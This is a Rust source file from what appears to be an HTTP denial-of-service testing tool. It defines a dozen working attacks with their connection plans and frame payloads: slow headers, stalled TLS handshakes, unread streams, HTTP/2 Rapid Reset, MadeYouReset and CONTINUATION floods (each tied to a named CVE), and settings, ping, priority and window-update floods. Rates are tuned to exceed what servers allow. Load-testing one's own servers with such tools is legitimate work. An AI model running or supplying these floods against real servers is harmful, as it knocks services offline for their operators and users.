//! The attacks, by what their connections send and how they go on.

use std::time::Duration;

use clap::ValueEnum;
use serde::{Deserialize, Serialize};

use crate::dial::Ask;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, METHOD_GET, METHOD_POST, PING,
    PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame, get, id, settings,
};
use crate::http1;

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// Handshakes that are never done: every other connection says nothing, the others begin.
    Handshakes,
    /// Heads that come by a byte a second.
    Heads,
    /// Streams on HTTP/1.1 of which nothing is read.
    Unread,
    /// Streams on HTTP/2 of which nothing is read, and such whose windows never open.
    UnreadHttp2,
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the server has to take back, as their windows overflow (CVE-2025-8671).
    MadeYouReset,
    /// A head that goes on and on (CVE-2024-27316).
    Continuation,
    /// Settings, each to be acknowledged.
    Settings,
    /// Pings, each to be answered.
    Ping,
    /// Priorities.
    Priority,
    /// A body of empty pieces.
    EmptyData,
    /// A window that opens by a byte at a time, so that each byte is sent in a frame of its own.
    Windows,
}

/// How an attack goes on.
#[derive(Debug, Clone, Copy)]
pub struct Plan {
    /// Connections at a time.
    pub hold: usize,
    /// Connections that are begun a second, at most.
    pub begin: u32,
    /// What is spoken.
    pub wire: Wire,
    /// Between what a connection sends and what it sends next.
    pub every: Duration,
    /// When a connection is given up, to begin anew: the client of one that reads nothing never sees its end.
    pub lasts: Option<Duration>,
    /// For how long the attack goes on, in seconds.
    pub seconds: u32,
}

impl Plan {
    /// The connections that there are to be after so many seconds, if none is ended.
    pub fn due(&self, seconds: u32) -> u64 {
        (u64::from(self.begin) * u64::from(seconds)).min(self.hold as u64)
    }
}

/// What is spoken on a connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Wire {
    /// TCP alone.
    Tcp,
    /// HTTP/1.1 after a handshake.
    Http1,
    /// HTTP/2 after a handshake.
    Http2,
}

impl Kind {
    /// Its name on the command line and in the report.
    pub fn name(self) -> String {
        let value = self.to_possible_value();
        value.map_or_else(String::new, |value| value.get_name().to_owned())
    }

    /// How it goes on. Those who hold connections do so for longer than the server lets them; those who flood are cut
    /// off after milliseconds, and come again and again.
    pub fn plan(self) -> Plan {
        let hold = Plan {
            hold: 1_000,
            begin: 500,
            wire: Wire::Http1,
            every: Duration::from_secs(1),
            lasts: None,
            seconds: 12,
        };
        match self {
            Self::Handshakes => Plan { hold: 10_000, begin: 5_000, wire: Wire::Tcp, ..hold },
            Self::Heads => hold,
            Self::Unread => Plan { hold: 200, begin: 200, lasts: Some(UNREAD), ..hold },
            Self::UnreadHttp2 => Plan { hold: 20, begin: 20, wire: Wire::Http2, lasts: Some(UNREAD), ..hold },
            _ => Plan {
                hold: 2_000,
                begin: 300,
                wire: Wire::Http2,
                every: Duration::from_millis(20),
                seconds: 6,
                ..hold
            },
        }
    }

    /// Whether its connection with this number reads what comes.
    pub fn reads(self, number: u64) -> bool {
        match self {
            Self::Unread => false,
            Self::UnreadHttp2 => number.is_multiple_of(2),
            _ => true,
        }
    }

    /// What its connection with this number sends first.
    pub fn begins(self, number: u64, ask: &Ask<'_>) -> Vec<u8> {
        match self {
            Self::Handshakes if number.is_multiple_of(2) => Vec::new(),
            Self::Handshakes => CLIENT_HELLO.to_vec(),
            Self::Heads => {
                let mut head = http1::request(ask);
                // All but the blank line, and a field that goes on.
                head.truncate(head.len() - 2);
                [&head[..], b"x: "].concat()
            }
            Self::Unread => http1::request(ask),
            _ => self.begins_http2(number, ask),
        }
    }

    fn begins_http2(self, number: u64, ask: &Ask<'_>) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        match self {
            Self::UnreadHttp2 => {
                let window = if self.reads(number) { 0 } else { WINDOW };
                settings(&mut out, &[(INITIAL_WINDOW_SIZE, window)]);
                (0..STREAMS).for_each(|stream| get(&mut out, id(stream), ask));
            }
            Self::Windows => {
                settings(&mut out, &[(INITIAL_WINDOW_SIZE, 0)]);
                get(&mut out, id(0), ask);
            }
            Self::Continuation => {
                settings(&mut out, &[]);
                frame(&mut out, HEADERS, END_STREAM, id(0), &block(METHOD_GET, ask));
            }
            Self::EmptyData => {
                settings(&mut out, &[]);
                frame(&mut out, HEADERS, END_HEADERS, id(0), &block(METHOD_POST, ask));
            }
            _ => settings(&mut out, &[]),
        }
        out
    }

    /// What a connection sends each time after that, which it has done so many times.
    pub fn goes_on(self, times: usize, ask: &Ask<'_>) -> Vec<u8> {
        let mut out = Vec::new();
        match self {
            Self::Handshakes | Self::Unread | Self::UnreadHttp2 => {}
            Self::Heads => out.push(b'a'),
            Self::RapidReset => requests(times, |id| {
                get(&mut out, id, ask);
                frame(&mut out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
            }),
            Self::MadeYouReset => requests(times, |id| {
                get(&mut out, id, ask);
                frame(&mut out, WINDOW_UPDATE, 0, id, &WINDOW.to_be_bytes());
            }),
            Self::Continuation => again(&mut out, CONTINUATION, id(0), &FIELD.repeat(7)),
            Self::Settings => again(&mut out, SETTINGS, 0, &[0, 4, 0, 0, 255, 255]),
            Self::Ping => again(&mut out, PING, 0, b"12345678"),
            Self::Priority => again(&mut out, PRIORITY, id(0), &[0, 0, 0, 0, 10]),
            Self::EmptyData => again(&mut out, DATA, id(0), &[]),
            Self::Windows => again(&mut out, WINDOW_UPDATE, id(0), &1_u32.to_be_bytes()),
        }
        out
    }
}

/// A flood of pairs of frames, each pair on a stream of its own.
fn requests(times: usize, mut pair: impl FnMut(u32)) {
    (0..FRAMES / 2).for_each(|stream| pair(id(times * FRAMES / 2 + stream)));
}

/// A flood of one frame.
fn again(out: &mut Vec<u8>, kind: u8, id: u32, payload: &[u8]) {
    (0..FRAMES).for_each(|_| frame(out, kind, 0, id, payload));
}

/// The beginning of a record with a ClientHello of 508 bytes (RFC 8446 sections 4 and 5.1).
const CLIENT_HELLO: [u8; 9] = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc];

/// A header field `x` that goes into no table (RFC 7541 section 6.2.2).
const FIELD: &[u8] = b"\x00\x01x\x0baaaaaaaaaaa";

/// Frames that are sent at once: half as many again as the server lets a client send.
const FRAMES: usize = 1_500;

/// Streams of a connection that reads nothing.
const STREAMS: usize = 100;

/// How long a connection that reads nothing is kept: longer than the server does so.
const UNREAD: Duration = Duration::from_secs(8);

/// As large as windows can be, and so too much for one that is open already.
const WINDOW: u32 = 0x7fff_ffff;

/// The code of a request that is taken back (RFC 9113 section 7).
const CANCEL: u32 = 8;
